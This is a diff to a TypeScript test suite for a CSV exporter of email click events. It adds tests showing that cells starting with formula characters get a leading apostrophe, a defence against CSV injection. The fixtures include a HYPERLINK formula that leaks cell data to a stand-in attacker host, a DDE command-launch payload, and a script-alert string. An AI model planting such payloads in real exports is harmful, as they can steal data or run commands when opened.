@@ -29,6 +29,9 @@ import {
 
 const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
 
+/** A text cell as a spreadsheet must get it (OWASP): a leading `'` before what starts a formula. */
+const asCell = (text: string) => (['=', '+', '-', '@', '\t', '\r'].includes(text[0] ?? '') ? `'${text}` : text);
+
 /** A record written the hard way: every awkward character in one place or another. */
 const awkward = clickRecord({
   id: 'evt-"quoted",comma',
@@ -109,7 +112,7 @@ describe('CSV', () => {
     expect(readCsv(file)).toEqual([]);
   });
 
-  it('reads back with csv-parse: exact values, tags joined with ";", fields as JSON with their types', async () => {
+  it('reads back with csv-parse: values as a spreadsheet shows them, tags joined with ";", fields as JSON', async () => {
     const file = await bytesOf(toCsv('clicks', [awkward, clickRecord({ id: 'second' })]));
     const [row, second, ...rest] = readCsv(file);
     expect(rest).toEqual([]);
@@ -120,19 +123,50 @@ describe('CSV', () => {
       time: '1795255200',
       message: 'msg_01JDMESSAGE000000000000001',
       recipient: 'zoë+tag@exämple.com',
-      profile: '-5',
+      profile: "'-5",
       fields: JSON.stringify(awkward.fields),
       tags: 'news;a;b;café, "bar";<&>',
       ip: '203.0.113.7',
-      useragent: '@SUM(1+1) <script>alert("x")</script> & co ]]> \'single\'',
+      useragent: "'@SUM(1+1) <script>alert(\"x\")</script> & co ]]> 'single'",
       referer: 'שלום עולם 👍🏽 𝄞',
       original: 'https://example.com/offer?utm_source=mail&utm_medium=email',
-      code: '+33 6 12 34 56 78',
-      extended: '=HYPERLINK("http://evil.example","click")',
+      code: "'+33 6 12 34 56 78",
+      extended: '\'=HYPERLINK("http://evil.example","click")',
       description: 'line one\nline two\r\nline three\rend',
     });
     expect(JSON.parse(row!.fields!)).toStrictEqual(awkward.fields);
     expect(second!.id).toBe('second');
+  });
+
+  it('neutralises every cell a spreadsheet would run as a formula, and leaves the rest', async () => {
+    const record = clickRecord({
+      useragent: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      referer: "+cmd|' /C calc'!A0",
+      original: 'https://example.com/=not-a-formula',
+      code: '-1+1',
+      extended: '@SUM(A1:A9)',
+      description: '\tindented',
+      profile: '\rcarriage',
+      tags: ['=1+1', 'plain'],
+      fields: { note: '=1+1' },
+    });
+    const [row] = readCsv(await bytesOf(toCsv('clicks', [record])));
+    expect(row).toMatchObject({
+      useragent: '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+      referer: "'+cmd|' /C calc'!A0",
+      original: 'https://example.com/=not-a-formula',
+      code: "'-1+1",
+      extended: "'@SUM(A1:A9)",
+      description: "'\tindented",
+      profile: "'\rcarriage",
+      tags: "'=1+1;plain",
+      fields: '{"note":"=1+1"}',
+    });
+    // The files for programs keep the values exact.
+    const [line] = (await bytesOf(toJsonLines([record]))).toString('utf8').split('\n');
+    expect(JSON.parse(line!)).toStrictEqual(record);
+    const [xml] = readXml(await bytesOf(toXml('clicks', [record])));
+    expect(xml!.useragent).toBe(record.useragent);
   });
 
   it('quotes every cell holding a line end, so a row never breaks in a spreadsheet', async () => {
@@ -189,9 +223,9 @@ describe('CSV', () => {
           for (const column of EVENT_COLUMNS) {
             const value = record[column];
             if (value === undefined) expect(row[column]).toBe('');
-            else if (column === 'tags') expect(row[column]).toBe(asUtf8((value as string[]).join(';')));
+            else if (column === 'tags') expect(row[column]).toBe(asCell(asUtf8((value as string[]).join(';'))));
             else if (column === 'fields') expect(JSON.parse(row[column]!)).toStrictEqual(parsedFromUtf8(value));
-            else expect(row[column]).toBe(asUtf8(String(value)));
+            else expect(row[column]).toBe(asCell(asUtf8(String(value))));
           }
         });
       }),
@@ -207,7 +241,7 @@ describe('CSV', () => {
             Object.fromEntries(
               LOOP_ERROR_COLUMNS.map((column) => {
                 const value = record[column];
-                return [column, value === undefined ? '' : asUtf8(String(value))];
+                return [column, value === undefined ? '' : asCell(asUtf8(String(value)))];
               }),
             ),
           ),
